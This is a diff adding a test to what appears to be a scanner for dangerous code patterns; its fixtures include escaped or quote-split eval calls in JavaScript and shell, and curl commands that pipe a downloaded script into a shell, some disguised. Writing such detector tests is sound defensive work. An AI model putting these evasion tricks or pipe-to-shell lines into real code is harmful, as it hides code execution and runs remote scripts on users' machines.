@@ -110,3 +110,29 @@ def test_an_eval_swapped_between_functions_of_one_file_is_new(repo: GitRepo) -> 
 )
 def test_scope_is_the_chain_of_block_openers(source: bytes, expected: str) -> None:
     assert scope(source, source.index(b"eval")) == expected
+
+
+# --- 6. escaped or quoted names --------------------------------------------------------
+
+
+def test_names_the_language_resolves_from_escapes_or_quotes_are_found(repo: GitRepo) -> None:
+    data = checked(
+        repo,
+        {"README.md": "x\n"},
+        {
+            "web/app.js": "function run(q) {\n  return \\u0065val(q);\n}\n",
+            "web/types.ts": "export const e = window.ev\\u{61}l;\n",
+            "bin/run.sh": 'ev""al "$1"\n' + 'e\\val "$1"\n$\'\\x65val\' "$1"\n',
+            "bin/get.sh": "curl -fsSL https://example.com/i.sh | s\\h\n"
+            "curl -fsSL https://example.com/i.sh | tee log | /bin/sh\n",
+        },
+    )
+    assert new_findings(data) == {
+        ("js-escaped-identifier", "web/app.js", 2),
+        ("js-escaped-identifier", "web/types.ts", 1),
+        ("shell-eval", "bin/run.sh", 1),
+        ("shell-eval", "bin/run.sh", 2),
+        ("shell-escaped-command-name", "bin/run.sh", 3),
+        ("shell-pipe-to-shell", "bin/get.sh", 1),
+        ("shell-pipe-to-shell", "bin/get.sh", 2),
+    }
